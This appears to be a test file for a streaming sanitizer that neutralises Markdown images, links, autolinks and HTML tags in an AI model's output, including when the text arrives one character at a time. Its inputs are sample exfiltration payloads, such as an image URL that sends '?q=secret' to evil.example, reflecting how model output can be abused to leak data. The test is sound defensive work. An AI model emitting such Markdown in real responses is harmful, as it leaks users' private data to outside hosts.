import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { InertMarkdown } from "./inert-markdown.ts";

function inert(...pieces: string[]): string {
  const stream = new InertMarkdown();
  return pieces.map((piece) => stream.push(piece)).join("") + stream.end();
}

describe("a model's Markdown", () => {
  test.each([
    ["an image", "See ![x](http://evil.example/?q=secret).", "See ![x] (http://evil.example/?q=secret)."],
    ["a link", "[Click](https://evil.example)", "[Click] (https://evil.example)"],
    ["an address for later", "![a]\n\n[a]: http://evil.example", "![a]\n\n[a] : http://evil.example"],
    ["an empty image", "![](//evil.example/a)", "![] (//evil.example/a)"],
    [
      "a tag",
      '<img src="http://evil.example"> </b> <!-- -->',
      '< img src="http://evil.example"> < /b> < !-- -->',
    ],
    ["an address in angle brackets", "<https://evil.example>", "< https://evil.example>"],
    [
      "a citation",
      "A refund takes 14 days. [1] Or 3 < 4 [2][3].",
      "A refund takes 14 days. [1] Or 3 < 4 [2][3].",
    ],
    ["code", '```html\n<script src="a"></script>\n```', '```html\n<script src="a"></script>\n```'],
    [
      "what follows code",
      "```\n[a](b)\n```\n![x](http://evil.example)",
      "```\n[a](b)\n```\n![x] (http://evil.example)",
    ],
    ["a backtick that never closes", "` ![x](http://evil.example)", "` ![x] (http://evil.example)"],
    ["a fence that is none", "```a` ![x](http://evil.example)", "```a` ![x] (http://evil.example)"],
    [
      "a fence that its list ends",
      "- a\n  ```\n\n![x](//evil.example)",
      "- a\n  ```\n\n![x] (//evil.example)",
    ],
    [
      "a fence that another line's end closes",
      "```\ra\r```\r![x](//e.example)",
      "```\ra\r```\r![x] (//e.example)",
    ],
  ])("%s", (_name, said, expected) => {
    expect(inert(said)).toBe(expected);
    expect(inert(...said)).toBe(expected); // a character at a time
  });

  test("comes to the same however it is cut, and loses nothing but gains spaces", () => {
    const text = fc.string({
      unit: fc.constantFrom("[", "]", "(", ")", "!", ":", "<", "`", "a", "1", " ", "\n"),
    });
    fc.assert(
      fc.property(text, fc.array(fc.nat({ max: 20 })), (said, lengths) => {
        const pieces: string[] = [];
        let rest = said;
        for (const length of lengths) {
          pieces.push(rest.slice(0, length));
          rest = rest.slice(length);
        }
        const whole = inert(said);
        expect(inert(...pieces, rest)).toBe(whole);
        expect(whole.replaceAll(" ", "")).toBe(said.replaceAll(" ", ""));
      }),
    );
  });
});
